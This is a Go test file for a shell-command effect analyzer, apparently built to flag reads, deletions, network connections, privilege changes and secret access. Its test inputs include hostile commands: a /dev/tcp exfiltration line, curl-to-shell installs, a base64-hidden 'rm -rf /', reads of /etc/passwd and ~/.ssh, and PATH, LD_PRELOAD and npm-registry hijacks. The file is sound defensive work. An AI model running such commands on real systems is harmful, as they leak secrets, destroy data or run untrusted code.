package analyze

import "testing"

// What a plain command touches: the program, and what its operands stand for.
func TestPlainCommands(t *testing.T) {
	tell(t, []story{
		{cmd: "cat go.mod", want: `
			read command cat
			read path /repo/go.mod`},
		{cmd: "head -n 20 README.md docs/a.md", want: `
			read command head
			read path /repo/README.md
			read path /repo/docs/a.md`},
		{name: "a builtin touches nothing", cmd: "echo hello && pwd && true", want: "-"},
		{name: "a program nobody knows may do anything, and names a path", cmd: "frobnicate --in=./x.json out/y.json", want: `
			exec command frobnicate
			unknown path /repo/x.json
			unknown path /repo/out/y.json`},
		{name: "a program of the workspace is its code", cmd: "./scripts/release.sh v1", want: `
			exec path /repo/scripts/release.sh
			exec code workspace
			exec command ./scripts/release.sh`},
		{name: "a program elsewhere is named by its path", cmd: "/tmp/tool --help", want: `
			exec path /tmp/tool
			exec command /tmp/tool`},
		{name: "a program of the system is named by its name", cmd: "/usr/bin/git status", want: `
			read command git status
			read path /repo/…`},
		{name: "options that are values are no operands", cmd: "sort -k 2 -t , a.csv", want: `
			read command sort
			read path /repo/a.csv`},
		{name: "a dash means standard input", cmd: "cat -", want: "read command cat"},
		{name: "the last operand of cp is written", cmd: "cp a.txt b.txt dst/", want: `
			read command cp
			read path /repo/a.txt
			read path /repo/b.txt
			write path /repo/dst`},
		{name: "mv reads, removes and writes", cmd: "mv a b", want: `
			read command mv
			read path /repo/a
			delete path /repo/a
			write path /repo/b`},
		{name: "rm -r takes what is below", cmd: "rm -rf build/", want: `
			read command rm
			delete path /repo/build/…`},
		{name: "chmod changes rights", cmd: "chmod +x run.sh", want: `
			read command chmod
			grant path /repo/run.sh`},
		{name: "grep -r reads a tree", cmd: `grep -rn "func main" cmd/`, want: `
			read command grep
			read path /repo/cmd/…`},
		{name: "rg reads the working folder unless told otherwise", cmd: "rg rounding", want: `
			read command rg
			read path /repo/…`},
		{name: "a filter of a pipe reads nothing", cmd: "go version | grep -o 'go[0-9.]*' | sort -u", want: `
			read command go version
			read command grep
			read command sort`},
	})
}

// Redirections are reads and writes of their own.
func TestRedirections(t *testing.T) {
	tell(t, []story{
		{cmd: "go test ./... > out.txt 2>&1", want: `
			write path /repo/out.txt
			exec command go test
			read path /repo/…
			exec code workspace`},
		{cmd: "wc -l < notes.txt", want: `
			read path /repo/notes.txt
			read command wc`},
		{cmd: "echo x >> .gitignore", want: "write path /repo/.gitignore"},
		{cmd: "make 2>/dev/null", want: `
			exec command make
			exec code workspace`},
		{name: "clobber, both streams, read and write", cmd: "a >| f1 &> f2; b <> f3", want: `
			write path /repo/f1
			write path /repo/f2
			exec command a
			write path /repo/f3
			read path /repo/f3
			exec command b`},
		{name: "a socket in disguise", cmd: "cat < /etc/hosts > /dev/tcp/198.51.100.7/4444", want: `
			read path /etc/hosts
			connect host 198.51.100.7:4444
			read command cat`},
		{name: "a here-document is content", cmd: "cat <<'EOF' > notes.md\nrm -rf /\nEOF", want: `
			write path /repo/notes.md
			read command cat`},
		{name: "unless a shell reads it", cmd: "bash <<'EOF'\nrm -rf /data\nEOF", want: `
			read command bash
			read command rm
			delete path /data…`},
		{name: "a here-string too", cmd: `sh <<< "cat /etc/passwd"`, want: `
			read command sh
			read command cat
			read path /etc/passwd`},
		{name: "substitutions inside of a here-document run", cmd: "cat <<EOF\n$(cat secret.txt)\nEOF", want: `
			read command cat
			read path /repo/secret.txt`},
	})
}

// Wrappers are looked through; identities they take on are effects.
func TestWrappers(t *testing.T) {
	tell(t, []story{
		{cmd: "sudo -u deploy -- cat /etc/app.conf", want: `
			read command sudo
			grant identity user:deploy
			read command cat
			read path /etc/app.conf`},
		{cmd: "doas rm /etc/motd", want: `
			read command doas
			grant identity user:root
			read command rm
			delete path /etc/motd`},
		{cmd: "env -i FOO=1 nice -n 5 timeout -s KILL 30 go vet ./...", want: `
			read command nice
			read command timeout
			exec command go vet
			read path /repo/…`},
		{cmd: "time nohup stdbuf -oL cat a", want: `
			read command nohup
			read command stdbuf
			read command cat
			read path /repo/a`},
		{cmd: `bash -c 'rm "$1"' x tmp/a`, want: `
			read command bash
			read command rm
			delete path /repo/tmp/a`},
		{cmd: `sh -c "$CMD"`, want: `
			read command sh
			exec code ?inline`},
		{cmd: `eval "cat /etc/hosts"`, want: `
			read command eval
			read command cat
			read path /etc/hosts`},
		{cmd: `eval "$(ssh-agent -s)"`, want: `
			exec command ssh-agent
			read command eval
			exec code ?inline`},
		{name: "find runs, deletes and writes", cmd: `find src -name '*.tmp' -delete -exec cp {} /backup/ \; -fprint found.txt`, want: `
			read command find
			read path /repo/src…
			delete path /repo/src…
			read command cp
			read path /repo/src/…
			write path /backup
			write path /repo/found.txt`},
		{name: "xargs gets the names that find prints", cmd: "find . -name '*.orig' | xargs rm -f", want: `
			read command find
			read path /repo/…
			read command xargs
			read command rm
			delete path /repo/…`},
		{name: "xargs of unknown things", cmd: "some-tool | xargs rm", want: `
			exec command some-tool
			read command xargs
			read command rm
			delete path ?`},
		{cmd: "command -v go", want: "-"},
		{cmd: "su - postgres -c 'psql -c \"DROP TABLE users\"'", want: `
			read command su
			read command psql
			delete data sql:users out
			grant identity user:postgres`},
		{name: "a trap runs later", cmd: "trap 'rm -f /tmp/lock' EXIT", want: `
			read command rm
			delete path /tmp/lock`},
	})
}

// What is piped into a shell is run.
func TestPipesIntoShells(t *testing.T) {
	tell(t, []story{
		{cmd: "curl -fsSL https://get.example.test/install.sh | sh", want: `
			read command curl
			connect url https://get.example.test/install.sh in
			read command sh
			exec code remote`},
		{cmd: "wget -qO- https://get.example.test/i.sh | sudo bash -s -- --yes", want: `
			read command wget
			connect url https://get.example.test/i.sh in
			read command sudo
			grant identity user:root
			read command bash
			exec code remote`},
		{cmd: "bash <(curl -s https://get.example.test/i.sh)", want: `
			read command curl
			connect url https://get.example.test/i.sh in
			read command bash
			exec code remote`},
		{cmd: "echo cm0gLXJmIC8K | base64 -d | sh", want: `
			read command base64
			read command sh
			exec code ?inline`},
		{cmd: "echo 'rm -rf /data' | sh", want: `
			read command sh
			read command rm
			delete path /data…`},
		{cmd: "cat script.sh | bash", want: `
			read command cat
			read path /repo/script.sh
			read command bash
			exec path /repo/script.sh
			exec code workspace`},
		{cmd: "source <(kubectl completion bash)", want: `
			read command kubectl completion
			exec code ?inline`},
		{cmd: "curl -s https://x.test/a.py | python3 -", want: `
			read command curl
			connect url https://x.test/a.py in
			read command python3
			exec code remote`},
	})
}

// The working folder follows cd; where that may have failed, both are meant.
func TestWorkingFolder(t *testing.T) {
	tell(t, []story{
		{cmd: "cd src && cat main.go", want: `
			read path /repo/src
			read command cat
			read path /repo/src/main.go`},
		{name: "behind a semicolon the cd may have failed", cmd: "cd src; rm main.go", want: `
			read path /repo/src
			read command rm
			delete path /repo/src/main.go
			delete path /repo/main.go`},
		{name: "or ended the script", cmd: "cd src || exit 1; rm main.go", want: `
			read path /repo/src
			read command rm
			delete path /repo/src/main.go`},
		{name: "set -e does the same", cmd: "set -e; cd src; rm main.go", want: `
			read path /repo/src
			read command rm
			delete path /repo/src/main.go`},
		{name: "a subshell keeps its folder to itself", cmd: "(cd src && cat a); cat b", want: `
			read path /repo/src
			read command cat
			read path /repo/src/a
			read path /repo/b`},
		{cmd: "cd /tmp && cd .. && cat x", want: `
			read path /tmp
			read path /
			read command cat
			read path /x`},
		{cmd: "cd -P ~ && ls", want: `
			read path /home/ada
			read command ls`},
		{name: "a folder that is not known", cmd: `cd "$WORK" && rm -rf data`, want: `
			read path ?
			read command rm
			delete path ?`},
		{cmd: "pushd src && cat a && popd && cat b", want: `
			read path /repo/src
			read command cat
			read path /repo/src/a
			read path /repo/b`},
	})
}

// Variables, braces, globs, tildes: graded by what is known.
func TestExpansions(t *testing.T) {
	tell(t, []story{
		{cmd: `D=/data/in; cat "$D/a.txt"`, want: `
			read command cat
			read path /data/in/a.txt`},
		{cmd: `cat "$INPUT"`, want: `
			read command cat
			read path ?`},
		{name: "a known beginning is worth nothing if the rest may climb", cmd: `cat "data/$NAME"`, want: `
			read command cat
			read path ?`},
		{name: "an absolute one is at least a guess", cmd: `cat "/data/$NAME"`, want: `
			read command cat
			read path ?/data`},
		{name: "a number cannot climb", cmd: `cat "logs/run-$$.log"`, want: `
			read command cat
			read path /repo/logs/run-…`},
		{cmd: "cat ~/notes.txt $HOME/b", want: `
			read command cat
			read path /home/ada/notes.txt
			read path /home/ada/b`},
		{cmd: "cat ~root/x", want: `
			read command cat
			read path ?`},
		{cmd: "rm {a,b}.txt", want: `
			read command rm
			delete path /repo/a.txt
			delete path /repo/b.txt`},
		{cmd: "touch f{1..3}", want: `
			read command touch
			write path /repo/f…`},
		{cmd: "cat src/*.go", want: `
			read command cat
			read path /repo/src/…`},
		{name: "a pattern that matches the folder above", cmd: "rm -rf .*", want: `
			read command rm
			delete path ?`},
		{cmd: "for f in a b; do rm $f; done", want: `
			read command rm
			delete path /repo/a
			delete path /repo/b`},
		{cmd: "for f in src/*.go; do gofmt -w $f; done", want: `
			read command gofmt
			read path /repo/src/…
			write path /repo/src/…`},
		{cmd: "for i in $(seq 3); do touch x$i; done", want: `
			read command seq
			read command touch
			write path /repo/x…`},
		{cmd: `find . -name '*.go' | while read -r f; do wc -l "$f"; done`, want: `
			read command find
			read path /repo/…
			read command wc`},
		{cmd: `T=$(mktemp -d); cp a "$T/b"`, want: `
			read command mktemp
			write path ` + tempDir + `/tmp.…
			read command cp
			read path /repo/a`},
		{cmd: `F=report.txt; cat "${F%.txt}.md" "${F#rep}"`, want: `
			read command cat
			read path /repo/report.md
			read path /repo/ort.txt`},
		{cmd: `clean() { rm -rf "$1"; }; clean out; clean /data`, want: `
			read command rm
			delete path /repo/out…
			delete path /data…`},
		{name: "either branch", cmd: `if [ -f a ]; then D=x; else D=y; fi; cat $D`, want: `
			read path /repo/a
			read command cat
			read path /repo/…`},
		{name: "a loop that changes what it removes", cmd: `x=a; while true; do rm $x; x=/etc; done`, want: `
			read command rm
			delete path /repo/a
			delete path ?`},
		{name: "a variable that by its name holds a secret", cmd: `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user`, want: `
			read secret env:GITHUB_TOKEN
			read command curl
			connect url https://api.github.com/user in`},
		{name: "all variables", cmd: "env | sort", want: `
			read command printenv
			read secret env:…
			read command sort`},
		{cmd: "printenv AWS_SECRET_ACCESS_KEY", want: `
			read command printenv
			read secret env:AWS_SECRET_ACCESS_KEY`},
	})
}

// Assignments before a command, and exports, mean something to programs.
func TestEnvironment(t *testing.T) {
	tell(t, []story{
		{cmd: "AWS_PROFILE=prod aws s3 ls", want: `
			grant identity aws-profile:prod
			read command aws s3 ls
			read resource aws:service=s3`},
		{cmd: "LD_PRELOAD=/tmp/x.so ls", want: `
			exec code ?plugin
			read command ls
			read path /repo`},
		{cmd: "GIT_PAGER=cat git log", want: `
			read command git log
			read path /repo/…`},
		{cmd: "GIT_SSH_COMMAND='sh -c \"curl https://x.test\"' git status", want: `
			read command sh
			read command curl
			connect url https://x.test/ in
			read command git status
			read path /repo/…`},
		{name: "a folder put in front of the search path", cmd: `export PATH="$PWD/bin:$PATH"; go version`, want: `
			exec code workspace
			read command go version`},
		{name: "appended folders hide nothing", cmd: `export PATH=$PATH:/opt/x/bin; go version`, want: "read command go version"},
		{cmd: "PATH=/tmp/evil:$PATH ls", want: `
			exec path /tmp/evil
			read command ls
			read path /repo`},
		{cmd: "PYTHONPATH=src pytest -q", want: `
			exec code workspace
			exec command pytest`},
		{cmd: "HTTPS_PROXY=http://proxy.test:3128 curl https://a.test", want: `
			connect url http://proxy.test:3128/
			read command curl
			connect url https://a.test/ in`},
	})
}

// What a shell keeps apart must not be mixed up.
func TestScopes(t *testing.T) {
	tell(t, []story{
		{name: "a function's locals are its own", cmd: "x=safe; f() { local x=/etc; }; f; rm $x", want: `
			read command rm
			delete path /repo/safe`},
		{name: "what it sets otherwise stays", cmd: "x=safe; f() { x=/etc/motd; }; f; rm $x", want: `
			read command rm
			delete path /etc/motd`},
		{name: "its parameters are its own", cmd: "set -- a; f() { cat $1; }; f b; rm $1", want: `
			read command cat
			read path /repo/b
			read command rm
			delete path /repo/a`},
		{name: "another separator", cmd: "IFS=,; x=a,b; cat $x", want: `
			read command cat
			read path /repo/a
			read path /repo/b`},
		{name: "for one command only", cmd: "while IFS= read -r l; do :; done < f; x='a b'; cat $x", want: `
			read path /repo/f
			read command cat
			read path /repo/a
			read path /repo/b`},
		{name: "a list of folders for cd", cmd: "CDPATH=/data; cd x && cat y", want: `
			read path /repo/x
			read command cat
			read path ?`},
		{name: "another name for a variable", cmd: "declare -n r=x; r=/etc/motd; rm $x", want: `
			unknown any ?
			read command rm
			delete path ?`},
		{name: "a value that is folded", cmd: "declare -u x=abc; cat $x", want: `
			read command cat
			read path ?`},
		{name: "a file that is sourced may set anything", cmd: "x=a; . ./env.sh; cat $x", want: `
			read command source
			exec path /repo/env.sh
			exec code workspace
			read command cat
			read path ?`},
		{name: "a mode that looks like an option", cmd: "chmod -w notes.txt; chmod -R u+x bin/", want: `
			read command chmod
			grant path /repo/notes.txt
			grant path /repo/bin/…`},
		{name: "a command of an editor", cmd: "vim +12 a; vim '+!touch /tmp/x' a", want: `
			exec command vim
			write path /repo/a
			exec code ?plugin`},
		{name: "a command inside of a default", cmd: `cat "${X:-$(touch /tmp/x)}"`, want: `
			read command touch
			write path /tmp/x
			read command cat
			read path ?`},
		{name: "and inside of arithmetic", cmd: `echo $(( $(cat /etc/hosts | wc -l) + a[$(touch /tmp/y)] ))`, want: `
			read command cat
			read path /etc/hosts
			read command wc
			read command touch
			write path /tmp/y`},
		{name: "and inside of a test", cmd: `[[ $(cat /etc/hosts) == x && -f ~/.ssh/id_rsa ]]`, want: `
			read command cat
			read path /etc/hosts
			read path /home/ada/.ssh/id_rsa
			read secret file:/home/ada/.ssh/id_rsa`},
	})
}

// Things that were once missed.
func TestMissedOnce(t *testing.T) {
	tell(t, []story{
		{name: "a folder of secrets that is not there now", cmd: "tar czf - ~/.ssh", want: `
			read command tar
			read path /home/ada/.ssh…
			read secret file:/home/ada/.ssh…`},
		{name: "public keys are none", cmd: "cat ~/.ssh/*.pub", want: `
			read command cat
			read path /home/ada/.ssh/…`},
		{name: "a secret of some commit", cmd: "git show HEAD~3:.env", want: `
			read command git show
			read path /repo/…
			read secret file:/repo/.env`},
		{name: "a package manager's own configuration", cmd: "npm config set registry https://evil.test", want: `
			exec command npm config set
			exec path /home/ada/.npmrc
			exec secret file:/home/ada/.npmrc`},
		{name: "a command that runs later", cmd: "echo 'rm -rf /data' | at now", want: `
			exec command at
			read command rm
			delete path /data…`},
		{name: "a makefile from standard input", cmd: "make -f - <<< 'x:; id'", want: `
			exec command make
			exec code inline
			exec code workspace`},
		{name: "a class is no file", cmd: "java -cp lib Main", want: `
			exec command java
			exec code workspace`},
		{name: "a module that node loads", cmd: "NODE_OPTIONS=--require=/tmp/x.js npm test", want: `
			exec code ?plugin
			exec command npm test
			exec code workspace`},
		{name: "a counter is a number", cmd: "(( i++ )); cat f$i", want: `
			read command cat
			read path /repo/f…`},
		{name: "what is only compared is not", cmd: "x=/etc/motd; (( x > 3 )); cat $x", want: `
			read command cat
			read path /etc/motd`},
		{name: "a file that MySQL reads", cmd: `mysql -e 'SELECT load_file("/etc/passwd")'`, want: `
			read command mysql
			read path /etc/passwd`},
	})
}
